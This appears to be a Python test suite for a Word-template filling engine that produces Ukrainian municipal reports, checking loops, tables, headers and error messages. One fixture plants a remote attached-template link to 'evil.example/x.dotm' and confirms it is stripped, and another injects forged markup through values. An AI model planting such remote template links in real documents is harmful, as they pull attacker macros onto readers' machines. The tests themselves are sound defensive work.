"""What a Word file becomes: slots over runs, conditions and loops over paragraphs and rows, and everything else as it was."""

from __future__ import annotations

import io
import shutil
import subprocess
from collections.abc import Iterator
from datetime import date
from pathlib import Path
from typing import Any

import docx
import pytest
from docx.shared import Pt, RGBColor

from tests.cast import Cast
from tests.factory import fill
from viche.hromada.models import Act
from viche.kit import figures, tenancy
from viche.kit.figures import Period
from viche.kit.figures.values import counted
from viche.kit.publishing import PUBLISHED
from viche.registers.kinds.event import Event
from viche.reports.word import filling
from viche.reports.word.refusing import BlankRefused
from viche.reports.word.tests.making import W, body, file, part, repacked, tables, texts, xml

YEAR = Period.year(2024)


@pytest.fixture(autouse=True)
def inside(cast: Cast) -> Iterator[None]:
    with tenancy.enter(cast.home.pk):
        yield


def filled(cast: Cast, data: bytes) -> filling.Filled:
    document = filling.read(io.BytesIO(data), "Бланк.docx")
    return filling.fill(document, "department", cast.department, YEAR, cast.viewer("mariia"))


def refused(cast: Cast, data: bytes) -> str:
    with pytest.raises(BlankRefused) as refusal:
        filled(cast, data)
    return "\n".join(refusal.value.messages)


def act(cast: Cast, day: date = date(2024, 3, 1)) -> Act:
    return fill(Act, cast.home, department=cast.department, state=PUBLISHED, adopted_on=day)


def event(cast: Cast, title: str, day: date = date(2024, 4, 18), kind: str = "forum") -> Event:
    own = {"department": cast.department, "state": PUBLISHED, "starts_on": day, "kind": kind}
    return fill(Event, cast.home, title=title, **own)


def table(*rows: list[str]) -> Any:
    """Adds a table of these texts to a document."""

    def change(document: Any) -> None:
        made = document.add_table(len(rows), len(rows[0]))
        for row, said in zip(made.rows, rows, strict=True):
            for cell, text in zip(row.cells, said, strict=True):
                cell.text = text

    return change


def test_the_number_is_the_one_of_the_catalogue(cast: Cast) -> None:
    act(cast), act(cast), act(cast, date(2025, 1, 1))
    made = filled(cast, file("Ухвалено {acts#акт|акти|актів}.", "{{ department.name }}, {{ report.year }}"))
    assert texts(made.data) == ["Ухвалено 2 акти.", f"{cast.department.name}, 2024"]
    (number,) = made.numbers
    assert number.asked is not None and number.asked.figure == "acts"
    assert number.value == counted(figures.figure("acts"), YEAR, cast.viewer("mariia")).value == 2


def test_a_slot_cut_into_runs_keeps_the_clothes_of_the_run_it_begins_in(cast: Cast) -> None:
    act(cast)

    def change(document: Any) -> None:
        paragraph = document.add_paragraph("Ухвалено ")
        for text, size in (("{ac", 20), ("ts", 8), ("#}", 9), (" за рік", 11)):
            run = paragraph.add_run(text)
            run.font.size, run.font.color.rgb = Pt(size), RGBColor(size, 0, 0)

    made = filled(cast, file(change=change))
    paragraph = docx.Document(io.BytesIO(made.data)).paragraphs[0]
    assert paragraph.text == "Ухвалено 1 за рік"
    assert [(run.text, run.font.size) for run in paragraph.runs] == [
        ("Ухвалено ", None), ("1", Pt(20)), (" за рік", Pt(11)),
    ]  # fmt: skip


def test_what_word_makes_of_a_slot_is_put_right(cast: Cast) -> None:
    event(cast, "Форум")
    event(cast, "Навчання", kind="training")
    quotes = ("“forum”", "«forum»", "„forum“", "”forum”", "‘forum’", "’forum’", '"forum"', '"forum”')
    for quote in ("«" + quotes[0][1:-1] + "»", *quotes):
        loop = f"{{%\u00a0For one in events | where: “kind”, {quote}\u00a0%}}{{{{\u00a0one.title\u00a0}}}}{{%\u00adendfor %}}"
        assert texts(filled(cast, file(loop)).data) == ["Форум"], quote
    assert texts(filled(cast, file("{Events#} {% if events ≥ 2 %}так{% endif %}")).data) == ["2 так"]


def test_an_apostrophe_inside_a_quoted_text_stays(cast: Cast) -> None:
    event(cast, "Здоров’я «Дитини»")
    loop = "{% for one in events | where: “title”, “Здоров’я «Дитини»” %}{{ one.title }}{% endfor %}"
    assert texts(filled(cast, file(loop)).data) == ["Здоров’я «Дитини»"]


def test_tags_alone_in_paragraphs_repeat_whole_paragraphs(cast: Cast) -> None:
    event(cast, "Перший", date(2024, 4, 1))
    event(cast, "Другий", date(2024, 5, 1))
    made = filled(
        cast,
        file("Було:", "{% for one in events %}", "– {{ one.title }};", "і далі", "{% endfor %}", "{% if acts > 0 %}",
             "Є акти", "{% else %}", "Актів немає", "{% endif %}", "Кінець"),
    )  # fmt: skip
    assert texts(made.data) == ["Було:", "– Перший;", "і далі", "– Другий;", "і далі", "Актів немає", "Кінець"]


def test_a_block_may_begin_at_the_edge_of_a_paragraph(cast: Cast) -> None:
    event(cast, "А")
    made = filled(
        cast, file("{% for one in events %}{{ one.title }}:", "кінець{% endfor %}", "{% if acts > 0 %}ні{% endif %}")
    )
    assert texts(made.data) == ["А:", "кінець"]


def test_rows_of_a_table_are_repeated(cast: Cast) -> None:
    event(cast, "Перший", date(2024, 4, 1))
    event(cast, "Другий", date(2024, 5, 1), kind="training")
    rows = (
        ["Назва", "День"],
        ["{% for one in events %}{{ one.title }}", "{{ one.starts_on | short_date }}{% endfor %}"],
        ["Разом", "{events#}"],
    )
    made = filled(cast, file(change=table(*rows)))
    assert tables(made.data) == [
        [["Назва", "День"], ["Перший", "01.04.2024"], ["Другий", "01.05.2024"], ["Разом", "2"]]
    ]


def test_rows_of_nothing_but_tags_vanish(cast: Cast) -> None:
    event(cast, "Перший", date(2024, 4, 1))
    event(cast, "Другий", date(2024, 5, 1), kind="training")
    rows = (
        ["Назва", "Вид"],
        ["{% for one in events %}", ""],
        ["{{ one.title }}", "{% if one.kind_key == “forum” %}форум{% endif %}"],
        ["далі", "."],
        ["{% endfor %}", ""],
    )
    made = filled(cast, file(change=table(*rows)))
    assert tables(made.data) == [[["Назва", "Вид"], ["Перший", "форум"], ["далі", "."], ["Другий", ""], ["далі", "."]]]


def test_a_table_without_rows_goes_and_the_document_stays_whole(cast: Cast) -> None:
    made = filled(cast, file("Перелік", change=table(["{% for one in events %}{{ one.title }}", "x{% endfor %}"])))
    assert tables(made.data) == [] and texts(made.data) == ["Перелік"]


def test_headers_and_footers_are_filled_and_the_rest_is_as_it_was(cast: Cast) -> None:
    act(cast)

    def change(document: Any) -> None:
        document.sections[0].header.paragraphs[0].text = "{{ department.name }}"
        document.sections[0].footer.paragraphs[0].text = "Без місць"
        document.add_paragraph("Підпис ______").style = "Title"

    data = file("{acts#}", change=change)
    made = filled(cast, data)
    opened = docx.Document(io.BytesIO(made.data))
    assert opened.sections[0].header.paragraphs[0].text == cast.department.name
    assert texts(made.data) == ["1", "Підпис ______"]
    names = {name for name in _names(data) if part(data, name) != part(made.data, name)}
    assert names == {"word/document.xml", "word/header1.xml"} and _names(data) == _names(made.data)
    before, after = xml(data), xml(made.data)
    last = [each.findall(f".//{{{W}}}p")[-1] for each in (before, after)]
    assert _bytes(last[0]) == _bytes(last[1])
    # The same file and numbers give the same bytes.
    assert filled(cast, data).data == made.data


def _names(data: bytes) -> list[str]:
    import zipfile

    return zipfile.ZipFile(io.BytesIO(data)).namelist()


def _bytes(element: Any) -> bytes:
    from lxml import etree

    return etree.tostring(element)


def test_a_picture_in_a_repeated_paragraph_comes_each_time(cast: Cast) -> None:
    from PIL import Image

    event(cast, "А", date(2024, 4, 1))
    event(cast, "Б", date(2024, 5, 1))
    picture = io.BytesIO()
    Image.new("RGB", (4, 4), "red").save(picture, "PNG")

    def change(document: Any) -> None:
        document.add_paragraph("{% for one in events %}")
        document.add_paragraph("{{ one.title }} ").add_run().add_picture(picture)
        document.add_paragraph("{% endfor %}")

    made = filled(cast, file(change=change))
    assert texts(made.data) == ["А ", "Б "]
    ids = [each.get("id") for each in xml(made.data).iter() if each.tag.endswith("}docPr")]
    assert len(ids) == len(set(ids)) == 2


def test_what_a_document_has_once_is_not_repeated(cast: Cast) -> None:
    event(cast, "А", date(2024, 4, 1))
    event(cast, "Б", date(2024, 5, 1))
    mark = '<w:bookmarkStart w:id="5" w:name="тут"/><w:bookmarkEnd w:id="5"/>'
    control = '<w:sdt><w:sdtPr><w:id w:val="77"/></w:sdtPr><w:sdtContent><w:p><w:r><w:t>сталий</w:t></w:r></w:p></w:sdtContent></w:sdt>'
    blocks = (
        "<w:p><w:r><w:t>{% for one in events %}</w:t></w:r></w:p>"
        f"<w:p>{mark}<w:r><w:t>{{{{ one.title }}}}</w:t></w:r></w:p><w:p>{mark}</w:p>{control}"
        "<w:p><w:r><w:t>{% endfor %}</w:t></w:r></w:p>"
    )
    made = filled(cast, body(file(), blocks))
    count = {name: len(list(xml(made.data).iter(f"{{{W}}}{name}"))) for name in ("bookmarkStart", "id", "sdt", "p")}
    assert count == {"bookmarkStart": 2, "id": 1, "sdt": 2, "p": 6}


def test_values_bring_in_no_marks_no_slots_and_no_markup(cast: Cast) -> None:
    forged = "{acts#} {{ hromada.name }} \ue0045\ue007 \ue0099\ue007 \ue0000\ue001 <w:p>&amp; \x0b"
    event(cast, forged)
    made = filled(cast, file("{% for one in events %}{{ one.title }}{% endfor %}", "Кінець"))
    assert texts(made.data) == ["{acts#} {{ hromada.name }} 5 9 0 <w:p>&amp; ", "Кінець"]


def test_marks_in_the_file_itself_are_only_left_out(cast: Cast) -> None:
    act(cast)
    assert texts(filled(cast, file("\ue0041\ue007{acts#}\ue0090\ue007", "\ue0041\ue007")).data)[0] == "110"
    assert texts(filled(cast, file('{{ "\ue0041\ue007" }}{acts#}')).data) == ["11"]


@pytest.mark.parametrize(
    ("paragraphs", "says"),
    [
        (["Ухвалено {нема#} актів."], "Абзац «Ухвалено {нема#} актів.»: Числа «нема» немає"),
        (["{acts:kind=нема#}"], "Є такі"),
        (["Добре", "Тут {acts# без пари"], "Абзац «Тут {acts# без пари»: фігурна дужка тут без пари"),
        (["Добре {acts#}", "{acts# без пари"], "Абзац «{acts# без пари»: фігурна дужка тут без пари"),
        (["{% if acts > 0", "> 0 %}"], "Абзац «{% if acts > 0»: фігурна дужка"),
        (["Добре {acts#}", "{{ acts {{ acts }}"], "Абзац «{{ acts {{ acts }}»: фігурна дужка"),
        (["Тут {% if acts", "> 0 %}"], "Абзац «Тут {% if acts»: фігурна дужка"),
        (["{% if acts > 0 %}", "без кінця"], "Абзац «{% if acts > 0 %}»: «{% if acts > 0 %}» — блок не закрито"),
        (["x{% endif %}"], "Абзац «x{% endif %}»: «{% endif %}» — він нічого не закриває"),
        (["a {% for one in events %} b", "c {% endfor %} d"], "посеред абзацу"),
        (["добре {acts#}", "Далі {{ report.nothing }}"], "Абзац «Далі {{ report.nothing }}»: Такої назви тут немає"),
        (["{{ department.name | shout }}"], "фільтра немає"),
        (["{% include “x” %}"], "можна писати лише"),
        (["{% table “acts” %}"], "можна писати лише"),
        (["Просто текст"], "жодного місця"),
    ],
)
def test_a_mistake_is_told_with_its_paragraph(paragraphs: list[str], says: str, cast: Cast) -> None:
    assert says in refused(cast, file(*paragraphs))


def test_every_mistake_is_told_at_once(cast: Cast) -> None:
    for last in ("{{ {", "{% if acts > 0 %}"):
        told = refused(cast, file("{нема#}", "{теж#}", last))
        assert told.count("Абзац") == 3 and f"Абзац «{last}»" in told


@pytest.mark.parametrize(
    ("inner", "says"),
    [
        ('<w:hyperlink w:anchor="x"><w:r><w:t>{acts#}</w:t></w:r></w:hyperlink>', "у посиланні"),
        ('<w:ins w:id="1" w:author="a"><w:r><w:t>{acts#}</w:t></w:r></w:ins>', "виправленні"),
        ("<w:sdt><w:sdtContent><w:r><w:t>{acts#}</w:t></w:r></w:sdtContent></w:sdt>", "керування вмістом"),
        ('<w:fldSimple w:instr="PAGE"><w:r><w:t>{acts#}</w:t></w:r></w:fldSimple>', "у полі"),
        ("<w:r><w:pict><v:textbox xmlns:v='urn:schemas-microsoft-com:vml'><w:txbxContent><w:p><w:r><w:t>{acts#}</w:t></w:r>"
         "</w:p></w:txbxContent></v:textbox></w:pict></w:r>", "у написі"),
        ('<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:t>{acts#}</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>', "у полі"),
    ],
)  # fmt: skip
def test_where_nothing_is_filled_is_said(inner: str, says: str, cast: Cast) -> None:
    assert says in refused(cast, body(file("{acts#}"), f"<w:p>{inner}</w:p>"))


def test_a_page_number_beside_a_slot_stays(cast: Cast) -> None:
    act(cast)
    field = (
        '<w:p><w:r><w:t xml:space="preserve">{acts#} с. </w:t></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>PAGE'
        '</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>7</w:t></w:r><w:r>'
        '<w:fldChar w:fldCharType="end"/></w:r><w:proofErr w:type="spellStart"/></w:p>'
    )
    made = filled(cast, body(file("Текст"), field))
    assert texts(made.data)[0] == "1 с. 7"
    told = [each.get(f"{{{W}}}fldCharType") for each in xml(made.data).iter(f"{{{W}}}fldChar")]
    assert told == ["begin", "separate", "end"]


def test_comments_stay_and_it_is_said(cast: Cast) -> None:
    def change(document: Any) -> None:
        document.add_comment(document.paragraphs[0].runs, "тут {acts#}", "Хтось")

    made = filled(cast, file("{acts#}", change=change))
    assert any("Примітки" in note for note in made.notes) and texts(made.data) == ["0"]


def test_the_template_of_a_document_is_forgotten(cast: Cast) -> None:
    data = file("{acts#}")
    settings = part(data, "word/settings.xml").decode()
    names = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
    settings = settings.replace("</w:settings>", f'<w:attachedTemplate {names} r:id="rId1"/></w:settings>')
    relation = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
        'Target="http://evil.example/x.dotm" TargetMode="External"/></Relationships>'
    )
    made = filled(
        cast,
        repacked(data, {"word/settings.xml": settings.encode(), "word/_rels/settings.xml.rels": relation.encode()}),
    )
    assert b"evil" not in part(made.data, "word/_rels/settings.xml.rels")
    assert b"attachedTemplate" not in part(made.data, "word/settings.xml")
    assert any("шаблон" in note for note in made.notes)


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice is not installed")
def test_an_office_program_opens_what_came_out(cast: Cast, tmp_path: Path) -> None:
    act(cast)
    event(cast, "Перший захід", date(2024, 4, 1))
    event(cast, "Другий захід", date(2024, 5, 1))
    rows = (
        ["Назва", "День"],
        ["{% for one in events %}{{ one.title }}", "{{ one.starts_on | short_date }}{% endfor %}"],
    )
    made = filled(cast, file("Ухвалено {acts#акт|акти|актів}.", change=table(*rows)))
    (tmp_path / "a.docx").write_bytes(made.data)
    profile = f"-env:UserInstallation=file://{tmp_path}/profile"
    command = [
        "soffice",
        profile,
        "--headless",
        "--convert-to",
        "txt:Text",
        "--outdir",
        str(tmp_path),
        str(tmp_path / "a.docx"),
    ]
    subprocess.run(command, check=True, capture_output=True, timeout=180)
    told = (tmp_path / "a.txt").read_text().replace("\N{NO-BREAK SPACE}", " ")
    for words in ("Ухвалено 1 акт.", "Перший захід", "Другий захід", "01.05.2024"):
        assert words in told
